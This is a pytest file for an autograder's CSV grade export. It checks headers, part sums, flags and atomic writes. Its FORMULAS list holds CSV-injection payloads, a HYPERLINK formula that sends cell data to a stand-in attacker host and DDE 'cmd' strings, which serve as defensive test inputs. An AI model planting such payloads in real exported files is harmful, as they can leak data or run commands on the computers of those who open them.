"""Batch CSV: header, per-part sums, flags, atomic write."""

from __future__ import annotations

import csv
from pathlib import Path

from grader.report.csv_rows import csv_header, csv_row, flags, write_csv
from grader.results import GradeReport
from grader.results import TestResult as Result

PARTS = ["1", "2", "3"]
META = {"id": "123", "name": "Ada Lovelace", "email": "ada@example.edu", "sid": "9001"}


def _report() -> GradeReport:
    return GradeReport(
        tests=(
            Result("a", "1.a", "p1a_output", 2.0, 2.0, "passed", "visible", "Correct.", part="1"),
            Result("b", "1.b", "p1b_positive_sides", 0.5, 1.0, "partial", "visible", "Half.", part="1"),
            Result("c", "2.a", "p2a_h_seq1", 0.0, 2.0, "invalid", "visible", "Expected 6 values.", part="2"),
            Result(
                "d", "2.e", "lstm_run", 0.0, 3.0, "error", "hidden", "The call timed out after 2 s.", part="2"
            ),
            Result(
                "e",
                "2.b",
                "p2b_interpretation",
                0.0,
                2.0,
                "manual",
                "visible",
                "Kept.",
                part="2",
                manual=True,
            ),
        )
    )


def test_header():
    assert csv_header(PARTS) == ["id", "name", "email", "sid", "total", "max", "1", "2", "3", "flags"]


def test_row_values():
    assert csv_row(_report(), meta=META, parts=PARTS) == [
        "123",
        "Ada Lovelace",
        "ada@example.edu",
        "9001",
        "2.5",
        "8",
        "2.5",
        "0",
        "",
        "error;invalid;timeout",
    ]


def test_flags_from_notices_and_clean_report():
    clean = GradeReport(tests=(Result("a", "1", "a", 1.0, 1.0, "passed", "visible", "Correct.", part="1"),))
    assert flags(clean) == []
    assert csv_row(clean, meta={}, parts=["1"]) == ["", "", "", "", "1", "1", "1", ""]
    noted = GradeReport(tests=(), notices=("Line 4 ran out of time.",))
    assert flags(noted) == ["notice", "timeout"]


def test_a_run_without_isolation_is_not_a_flag_a_submission_notice_still_is():
    from grader.sandbox.namespaces import unisolated_notice

    run_notice = unisolated_notice("ta")
    assert flags(GradeReport(tests=(), notices=(run_notice,))) == []
    both = GradeReport(tests=(), notices=(run_notice, "Your file ran with an error at line 3: ValueError"))
    assert flags(both) == ["notice"]


def test_write_csv_quotes_and_replaces(tmp_path: Path):
    path = tmp_path / "out" / "grades.csv"
    rows = [csv_row(_report(), meta={**META, "name": "Lovelace, Ada"}, parts=PARTS)]
    write_csv(path, csv_header(PARTS), rows)
    write_csv(path, csv_header(PARTS), rows)
    with path.open(newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == csv_header(PARTS)
    assert read[1][1] == "Lovelace, Ada" and read[1][-1] == "error;invalid;timeout"
    assert sorted(p.name for p in path.parent.iterdir()) == ["grades.csv"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"grades")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_a_formula_in_any_text_cell_stays_text_and_numbers_stay_numbers(tmp_path: Path):
    path = tmp_path / "grades.csv"
    rows = [csv_row(_report(), meta={"id": f, "name": f, "email": f, "sid": f}, parts=PARTS) for f in FORMULAS]
    rows.append(csv_row(_report(), meta={"id": "7", "name": "Ada-Lovelace", "email": "a@b.c", "sid": "-1001"},
                        parts=PARTS))
    rows.append(["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "-", "=", "@"])
    write_csv(path, csv_header(PARTS), rows)
    with path.open(newline="") as handle:
        read = list(csv.reader(handle))
    for formula, row in zip(FORMULAS, read[1:], strict=False):
        assert row[:4] == ["'" + formula.replace("\r", "\n")] * 4  # a lone CR would end the row
        assert row[4:6] == ["2.5", "8"]
    assert read[-2][:6] == ["7", "Ada-Lovelace", "a@b.c", "-1001", "2.5", "8"]
    assert read[-1] == ["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "'-", "'=", "'@"]


# ---------------------------------------------------------------- zero-point and staff-graded columns


def _zero(status: str, part: str = "opt") -> Result:
    return Result("z", "1.e", "softmax_beta", 0.0, 0.0, status, "visible", "", part=part)  # type: ignore[arg-type]


def _staff(status: str) -> Result:
    return Result("s", "2.b", "p2b_interpretation", 0.0, 4.0, status, "visible", "", part="staff",  # type: ignore[arg-type]
                  manual=True)


def test_zero_point_and_staff_columns_hold_words_never_a_misleading_zero():
    from grader.paths import DEFAULT_RUBRIC
    from grader.rubric import load_rubric

    parts = load_rubric(DEFAULT_RUBRIC).parts
    header = csv_header(parts)
    assert header[6:8] == ["p1a", "p1b"]
    assert "softmax_beta (optional, 0 pts)" in header and "p1d_areas (optional, 0 pts)" in header
    assert "p2d (optional, 0 pts)" in header
    assert [h for h in header if "staff" in h] == ["p2b (staff-graded)", "p3a_sgd (staff-graded)",
                                                   "p3e_why (staff-graded)"]
    assert header[4:6] == ["total", "max"] and header[-1] == "flags"

    points = Result("a", "1.a", "p1a_output", 5.0, 5.0, "passed", "visible", "", part="pts")
    columns = ["pts", "opt", "staff"]
    right = GradeReport((points, _zero("passed"), _staff("manual")))
    assert csv_row(right, meta={}, parts=columns)[4:] == ["5", "5", "5", "passed", "answered", ""]
    wrong = GradeReport((points, _zero("failed"), _staff("missing")))
    assert csv_row(wrong, meta={}, parts=columns)[4:] == ["5", "5", "5", "failed", "missing", "missing"]
    absent = GradeReport((points, _zero("missing"), _staff("invalid")))
    assert csv_row(absent, meta={}, parts=columns)[4:] == ["5", "5", "5", "missing", "invalid", "invalid"]


def test_a_zero_point_part_of_several_checks_sums_up_their_statuses():
    from grader.report.csv_rows import part_cell

    assert part_cell([_zero("passed"), _zero("passed")]) == "passed"
    assert part_cell([_zero("passed"), _zero("failed")]) == "partial"
    assert part_cell([_zero("missing"), _zero("failed")]) == "missing"
    assert part_cell([_zero("error"), _zero("invalid")]) == "error"
    assert part_cell([]) == ""


def test_a_word_cell_written_to_csv_stays_a_word_and_numbers_stay_numbers(tmp_path: Path):
    path = tmp_path / "grades.csv"
    report = GradeReport((_zero("passed"), _staff("manual")))
    write_csv(path, csv_header(["opt", "staff"]), [csv_row(report, meta={"id": "-1"}, parts=["opt", "staff"])])
    with path.open(newline="") as handle:
        assert list(csv.reader(handle))[1] == ["-1", "", "", "", "0", "0", "passed", "answered", ""]
